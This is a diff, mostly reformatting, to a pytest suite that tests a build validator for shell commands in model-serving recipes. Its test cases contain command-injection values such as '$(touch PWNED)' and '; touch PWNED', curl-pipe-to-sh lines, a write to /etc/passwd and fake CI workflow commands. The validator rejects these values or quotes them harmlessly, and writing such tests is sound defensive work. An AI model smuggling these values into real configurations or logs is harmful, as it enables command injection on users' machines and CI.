@@ -44,7 +44,8 @@ if [ "${0##*/}" = cat ] && [ $# -eq 0 ]; then
 fi
 exit 0
 """
-HARNESS_HEAD = """command_not_found_handle() { printf '\\001NOTFOUND\\000%s\\000' "$1" >> "$STUB_LOG"; return 127; }
+HARNESS_HEAD = """command_not_found_handle() {
+  printf '\\001NOTFOUND\\000%s\\000' "$1" >> "$STUB_LOG"; return 127; }
 """
 HF_MOUNT = values.HF_CACHE_MOUNT
 PLACEHOLDER = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
@@ -116,7 +117,8 @@ PAIRS = (("command", "argv", "docker_command", "docker_argv"),
          ("vllm_command", "vllm_argv", "vllm_docker_command", "vllm_docker_argv"),
          ("vllm_worker_command", "vllm_worker_argv", "vllm_worker_docker_command", "vllm_worker_docker_argv"))
 LIST_PAIRS = (("worker_commands", "worker_argvs", "worker_docker_commands", "worker_docker_argvs"),
-              ("vllm_worker_commands", "vllm_worker_argvs", "vllm_worker_docker_commands", "vllm_worker_docker_argvs"))
+              ("vllm_worker_commands", "vllm_worker_argvs", "vllm_worker_docker_commands",
+               "vllm_worker_docker_argvs"))
 SCRIPT_FIELDS = ("command", "install", "vllm_install", "curl")
 
 
@@ -148,7 +150,8 @@ def _serve_pastes(rec: dict[str, Any], profile: dict[str, Any], home: str, corpu
     return {key for pair in (*PAIRS, *LIST_PAIRS) for key in (pair[0], pair[2])} if triples else set()
 
 
-def collect(value: Any, profiles: dict[str, Any], home: str, corpus: Corpus, profile: dict[str, Any] | None = None
+def collect(value: Any, profiles: dict[str, Any], home: str, corpus: Corpus,
+            profile: dict[str, Any] | None = None
             ) -> None:
     """Every shell text of one published JSON document (``profile``: of the enclosing record)."""
     if isinstance(value, list):
@@ -285,8 +288,9 @@ def run_pastes(pastes: list[Paste], work: Path, extra_env: dict[str, str] | None
         script = [HARNESS_HEAD]
         for i in range(b, len(pastes), batches):
             (cases / f"{i}.sh").write_text(pastes[i].text + "\n")
-            probe = "".join(f"printf '\\001ENV\\000%s\\000%s\\000' {k} \"${{{k}-<unset>}}\" >> \"$STUB_LOG\"; "
-                            for k, _ in pastes[i].env)
+            probe = "".join(
+                f"printf '\\001ENV\\000%s\\000%s\\000' {k} \"${{{k}-<unset>}}\" >> \"$STUB_LOG\"; "
+                for k, _ in pastes[i].env)
             script.append(f"printf '\\001CASE\\000{i}\\000' >> \"$STUB_LOG\"; ( . ./cases/{i}.sh; {probe}) "
                           f"</dev/null >/dev/null 2>&1\n")
         (folder / "harness.sh").write_text("".join(script))
@@ -300,7 +304,8 @@ def run_pastes(pastes: list[Paste], work: Path, extra_env: dict[str, str] | None
         log = work / f"batch{b}" / "log"
         results.update(_parse_log(log.read_bytes() if log.exists() else b""))
     leftovers = [p for b in range(batches) for p in (work / f"batch{b}").rglob("*")
-                 if p.is_file() and p.name not in ("harness.sh", "log", "activate") and "cases" not in p.parts]
+                 if p.is_file() and p.name not in ("harness.sh", "log", "activate")
+                 and "cases" not in p.parts]
     return [results.get(i, Ran()) for i in range(len(pastes))], leftovers
 
 
@@ -329,11 +334,12 @@ def _paste_corpus(root: Path, tmp_path: Path, run_summary: list[str], label: str
     assert {p.name for p in leftovers} <= {"output.png", "output.wav", "output.mp4"}, leftovers
     exact = [r for p, r in zip(pastes, ran, strict=True) if p.calls is not None]
     assert exact and all(r.calls for r in exact)
-    run_summary.append(f"shell paste test ({label}): {len(pastes)} distinct texts, {len(exact)} with exact argv, "
-                       f"{corpus.split_items} split(s) of an unquoted item holding a space")
+    run_summary.append(f"shell paste test ({label}): {len(pastes)} distinct texts, {len(exact)} with exact "
+                       f"argv, {corpus.split_items} split(s) of an unquoted item holding a space")
     for name, dep in kv_store.items():  # the Mooncake Config tab writes its files through a heredoc
         folder = tmp_path / "mooncake" / name
-        paths = {"MOONCAKE_CONFIG_PATH": folder / "vllm.json", "MOONCAKE_STORE_CONFIG_PATH": folder / "store.json"}
+        paths = {"MOONCAKE_CONFIG_PATH": folder / "vllm.json",
+                 "MOONCAKE_STORE_CONFIG_PATH": folder / "store.json"}
         script = Paste(mooncake.mooncake_config_script(dep), None)
         ran, _ = run_pastes([script], folder, {k: str(v) for k, v in paths.items()}, batches=1)
         assert check_pastes([script], ran) == []
@@ -406,17 +412,20 @@ def _json(value: Any) -> str:
 
 UNQUOTED_CASES = [
     pytest.param({"base_args": _json(["--served-model-name=$(touch PWNED)"])},
-                 f"{HOSTILE_PATH}:14: model.base_args[0]: flag '--served-model-name=$(touch PWNED)' is printed "
-                 f"unquoted: {ALLOWED} (give a value as the next list item: values are quoted)", id="flag-value"),
+                 f"{HOSTILE_PATH}:14: model.base_args[0]: flag '--served-model-name=$(touch PWNED)' is "
+                 f"printed unquoted: {ALLOWED} (give a value as the next list item: values are quoted)",
+                 id="flag-value"),
     pytest.param({"extra_args": _json(["--enforce-eager", "x", "; touch PWNED"])},
                  f"{HOSTILE_PATH}:21: variants.default.extra_args[2]: positional argument '; touch PWNED' is "
                  f"printed unquoted: {ALLOWED}", id="positional"),
     pytest.param({"extra_args": _json(["--enforce-eager", "x", "::error::approved"])},
-                 f"{HOSTILE_PATH}:21: variants.default.extra_args[2]: positional argument '::error::approved' starts "
-                 "with '::': printed on its own line, a CI log reads it as a command", id="workflow-command-positional"),
+                 f"{HOSTILE_PATH}:21: variants.default.extra_args[2]: positional argument "
+                 "'::error::approved' starts with '::': printed on its own line, a CI log reads it as a "
+                 "command", id="workflow-command-positional"),
     pytest.param({"extra_args": _json(["::stop-commands::x"])},
-                 f"{HOSTILE_PATH}:21: variants.default.extra_args[0]: positional argument '::stop-commands::x' starts "
-                 "with '::': printed on its own line, a CI log reads it as a command", id="workflow-command-leading"),
+                 f"{HOSTILE_PATH}:21: variants.default.extra_args[0]: positional argument "
+                 "'::stop-commands::x' starts with '::': printed on its own line, a CI log reads it as a "
+                 "command", id="workflow-command-leading"),
     pytest.param({"extra_args": _json(["; touch PWNED"])},
                  f"{HOSTILE_PATH}:21: variants.default.extra_args[0]: positional argument '; touch PWNED' is "
                  f"printed unquoted: {ALLOWED}", id="leading-positional"),
@@ -431,19 +440,21 @@ UNQUOTED_CASES = [
                  id="env-name-space"),
     pytest.param({"model_id": _json("Hostile/Case|touch PWNED")},
                  f"{HOSTILE_PATH}:10: model.model_id: model id 'Hostile/Case|touch PWNED' must be org/repo "
-                 f"(letters, digits, _ . -) or an absolute path of letters, digits and _ . + - /", id="model-id"),
+                 f"(letters, digits, _ . -) or an absolute path of letters, digits and _ . + - /",
+                 id="model-id"),
     pytest.param({"base_env": _json({"MOONCAKE_CONFIG_PATH": "/etc/$(touch PWNED)"})},
-                 f"{HOSTILE_PATH}:15: model.base_env.MOONCAKE_CONFIG_PATH: env value '/etc/$(touch PWNED)' is "
-                 f"printed unquoted: {ENV_ALLOWED}", id="mount-config-path"),
+                 f"{HOSTILE_PATH}:15: model.base_env.MOONCAKE_CONFIG_PATH: env value '/etc/$(touch PWNED)' "
+                 f"is printed unquoted: {ENV_ALLOWED}", id="mount-config-path"),
     pytest.param({"image": _json("vllm/vllm-openai:latest; touch PWNED")},
-                 f"{HOSTILE_PATH}:20: variants.default.docker_image: docker image 'vllm/vllm-openai:latest; touch "
-                 f"PWNED' must be a docker image reference ([registry/]name[:tag][@sha256:digest])", id="image"),
+                 f"{HOSTILE_PATH}:20: variants.default.docker_image: docker image 'vllm/vllm-openai:latest; "
+                 f"touch PWNED' must be a docker image reference ([registry/]name[:tag][@sha256:digest])",
+                 id="image"),
     pytest.param({"dependencies": _json([{"command": "curl -s https://example.com/x | sh"}])},
                  f"{HOSTILE_PATH}:23: dependencies[0].command: shell command: '|' outside quotes at line 1, "
                  f"column 31 is not allowed (join commands with a newline or &&)", id="install-pipe"),
     pytest.param({"dependencies": _json([{"command": 'uv pip install "$(touch PWNED)"'}])},
-                 f"{HOSTILE_PATH}:23: dependencies[0].command: shell command: '$' at line 1, column 17 must start "
-                 f"$NAME, ${{NAME}} or $(cat <path>)", id="install-subst"),
+                 f"{HOSTILE_PATH}:23: dependencies[0].command: shell command: '$' at line 1, column 17 must "
+                 f"start $NAME, ${{NAME}} or $(cat <path>)", id="install-subst"),
 ]
 
 
@@ -458,7 +469,8 @@ def test_payload_in_unquoted_position_is_a_located_error(
     assert not (tmp_path / "PWNED").exists()
 
 
-def test_located_error_fails_the_build_and_keeps_the_site(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+def test_located_error_fails_the_build_and_keeps_the_site(tmp_path: Path,
+                                                          capsys: pytest.CaptureFixture[str]) -> None:
     root = hostile_root(tmp_path, base_args=_json(["--served-model-name=$(touch PWNED)"]))
     out = tmp_path / "site"
     out.mkdir()
@@ -491,8 +503,10 @@ QUOTED_CASES = [
 
 
 @pytest.mark.parametrize("extra_args", QUOTED_CASES)
-def test_payload_in_quoted_position_builds_and_pastes_harmlessly(tmp_path: Path, extra_args: list[str]) -> None:
-    root = hostile_root(tmp_path, extra_args=_json(extra_args), base_env=_json({"NCCL_IB_HCA": "$IFACE_NAME"}))
+def test_payload_in_quoted_position_builds_and_pastes_harmlessly(tmp_path: Path,
+                                                                 extra_args: list[str]) -> None:
+    root = hostile_root(tmp_path, extra_args=_json(extra_args),
+                        base_env=_json({"NCCL_IB_HCA": "$IFACE_NAME"}))
     result = Pipeline(BuildOptions(content=root, out=tmp_path / "unused", html=False)).run()
     assert [p for p in result.problems if not p.warning] == []
     record = orjson.loads(result.files["Hostile/Case/hw/h200.json"])
@@ -514,7 +528,8 @@ def test_payload_in_quoted_position_builds_and_pastes_harmlessly(tmp_path: Path,
 
 
 @pytest.mark.parametrize(("text", "problem"), [
-    ("echo ok\n  ::error::approved by maintainers", "shell command line 2 starts with '::e': a CI log reads it as a command"),
+    ("echo ok\n  ::error::approved by maintainers", "shell command line 2 starts with '::e': a CI log reads "
+                                                    "it as a command"),
     ("echo 'one\n##[group]two'", "shell command line 2 starts with '##[': a CI log reads it as a command"),
     ("uv pip install -U \"transformers>=5.4.0\"", None),
     ("git clone https://x/y.git && cd y && uv pip install -e .", None),
@@ -523,18 +538,21 @@ def test_payload_in_quoted_position_builds_and_pastes_harmlessly(tmp_path: Path,
     ("curl -d '{\"a\": \"b; c | d\"}' | jq -r '.x' | base64 -d > output.png", None),
     ("curl https://x | sh", "shell command: '|' outside quotes at line 1, column 16 is not allowed "
                             "(join commands with a newline or &&)"),
-    ("a; b", "shell command: ';' outside quotes at line 1, column 2 is not allowed (join commands with a newline or &&)"),
-    ("a & b", "shell command: '&' outside quotes at line 1, column 3 is not allowed (join commands with a newline or &&)"),
-    ("a > /etc/passwd", "shell command: '>' outside quotes at line 1, column 3 is not allowed (join commands with a "
-                        "newline or &&)"),
-    ("a < b", "shell command: '<' outside quotes at line 1, column 3 is not allowed (join commands with a newline or &&)"),
-    ("echo `id`", "shell command: '`' outside quotes at line 1, column 6 is not allowed (join commands with a newline "
-                  "or &&)"),
+    ("a; b", "shell command: ';' outside quotes at line 1, column 2 is not allowed (join commands with a "
+             "newline or &&)"),
+    ("a & b", "shell command: '&' outside quotes at line 1, column 3 is not allowed (join commands with a "
+              "newline or &&)"),
+    ("a > /etc/passwd", "shell command: '>' outside quotes at line 1, column 3 is not allowed (join commands "
+                        "with a newline or &&)"),
+    ("a < b", "shell command: '<' outside quotes at line 1, column 3 is not allowed (join commands with a "
+              "newline or &&)"),
+    ("echo `id`", "shell command: '`' outside quotes at line 1, column 6 is not allowed (join commands with "
+                  "a newline or &&)"),
     ("echo $(id)", "shell command: '$' at line 1, column 6 must start $NAME or ${NAME}"),
     ('echo "$(id)"', "shell command: '$' at line 1, column 7 must start $NAME, ${NAME} or $(cat <path>)"),
     ('echo "`id`"', "shell command: '`' inside double quotes at line 1, column 7 is not allowed"),
-    ("ok\nx \\ y", "shell command: '\\\\' outside quotes at line 2, column 3 is not allowed (join commands with a "
-                   "newline or &&)"),
+    ("ok\nx \\ y", "shell command: '\\\\' outside quotes at line 2, column 3 is not allowed (join commands "
+                   "with a newline or &&)"),
     ("echo 'open", "shell command: unterminated ' quote"),
     ("a\rb", "shell command contains the control/invisible character U+000D"),
 ])
